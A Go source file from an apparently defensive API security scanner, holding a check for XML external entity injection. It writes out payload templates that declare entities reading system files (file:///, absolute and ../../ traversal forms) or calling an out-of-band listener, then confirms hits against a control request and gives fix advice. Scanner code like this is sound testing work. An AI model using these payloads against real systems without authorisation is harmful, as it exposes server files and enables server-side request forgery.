package check

import (
	"context"
	"fmt"
	"net/http"
	"regexp"
	"strings"
	"time"

	"github.com/crenel-project/crenel/internal/scan/graph"
	"github.com/crenel-project/crenel/internal/scan/scenario"
)

var _ = register(&Check{
	ID: "xxe", Title: "An XML body reads files of the server, or makes it call out",
	OWASP: "API8:2023", CWE: "CWE-611", WSTG: "WSTG-INPV-07",
	CVSS:  "CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:N/VA:L/SC:L/SI:N/SA:N",
	About: "Declares an entity in front of an XML body that works, for a file that every system has and for the listener's address, and puts it into a text of the body.",
	Proof: "The answer holds what the file begins with, or the target called the listener. Controls: the same body with an entity for a file that is not there brings nothing.",
	Fix:   "Turn document types off in the XML parser (CWE-611; OWASP XXE prevention), and refuse bodies that have one.",
	Mode:  Default, Dirty: true,
	Run: xxe,
})

var reRoot = regexp.MustCompile(`<([A-Za-z_][\w.:-]*)`)

func xxe(ctx context.Context, p *Probe) error {
	if err := p.xmlTexts(ctx, p.entity); err != nil {
		return err
	}
	if err := p.embeddedXML(ctx); err != nil {
		return err
	}
	return p.unsaidXML(ctx)
}

// xmlMedia is the first type of an operation's body that is XML, "" where none is.
func xmlMedia(op *graph.Op) string {
	if op.Body != nil {
		for _, m := range op.Body.Content {
			if strings.Contains(m.Type, "xml") {
				return m.Type
			}
		}
	}
	return ""
}

// xmlTexts calls try for each text in each body of XML, until it is done with the body.
func (p *Probe) xmlTexts(ctx context.Context, try func(context.Context, *slot) (bool, error)) error {
	return Each(ctx, p, p.Ops(), func(ctx context.Context, op *graph.Op) error {
		media := xmlMedia(op)
		if media == "" || op.Method == http.MethodGet || op.Has(graph.Hazard) {
			return nil
		}
		all, err := p.slotsOf(ctx, op, takesText)
		if err != nil || len(all) == 0 {
			return err
		}
		if !strings.Contains(all[0].call.Media, "xml") {
			c := *all[0].call // calls have JSON where that is taken as well
			c.Media = media
			x, err := p.send(ctx, &c)
			if err != nil || x.Status/100 != 2 {
				return err
			}
			for _, s := range all {
				s.call, s.base = &c, x
			}
		}
		for _, s := range all {
			if s.in.In != "body" {
				continue
			}
			p.Note(op, Clean)
			// Of a document that is described as a text, each text in it is tried.
			for i := range max(1, min(len(documentTexts(s)), 4)) {
				s.nth = i
				if done, err := try(ctx, s); err != nil || done {
					return err
				}
			}
		}
		return nil
	})
}

// reDocumentText is a text between two tags.
var reDocumentText = regexp.MustCompile(`>([^<>]*[^<>\s][^<>]*)</`)

// documentTexts are the places of the texts of a document that a slot holds as a
// whole; nil when it holds none.
func documentTexts(s *slot) [][]int {
	if text := strings.TrimSpace(s.value); !strings.HasPrefix(text, "<") || strings.Contains(text, "<!DOCTYPE") {
		return nil
	}
	return reDocumentText.FindAllStringSubmatchIndex(s.value, -1)
}

// withEntity is a call whose body declares an entity and holds it in one text.
func (p *Probe) withEntity(s *slot, id string, part scenario.Part, note, system string, e ...scenario.Expect) (scenario.Step, error) {
	bind := s.call.Renew(id)
	bind[s.in.Where()] = `"ENTITYHERE"`
	if texts := documentTexts(s); s.nth < len(texts) {
		at := texts[s.nth]
		bind[s.in.Where()] = jsonString(s.value[:at[2]] + "ENTITYHERE" + s.value[at[3]:])
	}
	st, err := p.World.Step(s.call, bind)
	if err != nil {
		return st, err
	}
	root := reRoot.FindStringSubmatchIndex(st.Send.Body)
	if root == nil || !strings.Contains(st.Send.Body, "ENTITYHERE") {
		return st, fmt.Errorf("%s: the body holds no text to put an entity into", s.op.ID)
	}
	name := st.Send.Body[root[2]:root[3]]
	doctype := fmt.Sprintf(`<!DOCTYPE %s [<!ENTITY crenel SYSTEM "%s">]>`, name, system)
	st.Send.Body = strings.ReplaceAll(st.Send.Body[:root[0]]+doctype+st.Send.Body[root[0]:], "ENTITYHERE", "&crenel;")
	st.ID, st.Part, st.Note, st.Expect = id, part, note, e
	return st, nil
}

// entityForms are how an entity names a file.
var entityForms = []string{"file:///%s", "/%s", "../../../../../../%s"}

func (p *Probe) entity(ctx context.Context, s *slot) (bool, error) {
	for _, f := range systemFiles {
		for _, form := range entityForms {
			st, err := p.withEntity(s, "attack", scenario.Attack, "one for a file of the system brings the file", strings.ReplaceAll(form, "%s", f.path), scenario.Expect{Matches: f.holds, Unlike: "wrong"})
			if err != nil {
				return false, nil //nolint:nilerr // a call that cannot be written as a step proves nothing
			}
			r, err := p.World.Request(s.call)
			if err != nil {
				return false, nil //nolint:nilerr // nor one that cannot be sent
			}
			r.Body = []byte(st.Send.Body)
			x, err := p.Do(ctx, s.call.As, r)
			if err != nil {
				return false, err
			}
			if !regexp.MustCompile(f.holds).Match(x.Body) {
				continue
			}
			var l steps
			l.add(p.withEntity(s, "wrong", scenario.Control, "an entity for a file that is not there brings nothing", strings.ReplaceAll(form, "%s", f.wrong), scenario.Expect{Status: "any"}))
			l.add(st, nil)
			if ok, err := p.injected(ctx, s, "XML external entity", "An entity that the body declares is read from the server's files.", &l); err != nil || ok {
				return ok, err
			}
		}
	}
	if p.Listener == nil {
		return false, nil
	}
	var l steps
	l.add(p.withEntity(s, "attack", scenario.Attack, "an entity at the listener's address is fetched", "${listener.call}", scenario.Expect{Status: "any"}, scenario.Expect{Called: "call", By: time.Second}))
	if ok, err := p.injected(ctx, s, "XML external entity", "An entity that the body declares makes the server call an address that the caller names.", &l); err != nil || ok {
		return ok, err
	}
	return p.entityLookup(ctx, s)
}
